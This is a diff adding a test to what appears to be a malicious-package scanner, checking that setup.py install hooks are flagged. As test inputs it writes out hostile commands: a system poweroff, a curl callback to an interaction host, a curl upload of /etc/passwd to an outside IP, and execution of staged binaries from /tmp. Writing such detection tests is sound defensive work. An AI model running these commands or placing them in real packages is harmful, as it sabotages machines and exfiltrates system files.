@@ -131,3 +131,24 @@ test('game launcher account files are credential sources', async () => {
   });
   assert.equal(score.verdict, 'malicious', score.reason);
 });
+
+test('install-time sabotage, callbacks to interaction services and staged binaries are malicious; ordinary build commands are not', async () => {
+  const setup = (body: string): Record<string, string> => ({ 'pkg-1/setup.py': `import os\n${body}\nfrom setuptools import setup\nsetup(name='x')\n` });
+  for (const body of [
+    "os.system('poweroff')",
+    "os.system('curl https://abc123.oastify.com/x')",
+    "os.system('curl -F a=@/etc/passwd 192.0.2.7:8080')",
+    "os.system('cd /tmp && chmod +x node && ./node')",
+    "os.system('\"/tmp/.cache/updater\" &')",
+  ]) {
+    const { score } = await scan(setup(body));
+    assert.equal(score.verdict, 'malicious', `${body}: ${score.reason}`);
+  }
+  for (const body of ["os.system('make -j4')", "os.system('curl -L https://github.com/org/lib/archive/v1.tar.gz -o lib.tgz')"]) {
+    const { score } = await scan(setup(body));
+    assert.notEqual(score.verdict, 'malicious', `${body}: ${score.reason}`);
+  }
+  // A library function that powers off when called (an admin tool) is not install-time sabotage.
+  const { score: admin } = await scan({ 'pkg/admin.py': 'import os\ndef stop():\n    os.system("shutdown -h now")\n' });
+  assert.notEqual(admin.verdict, 'malicious', admin.reason);
+});
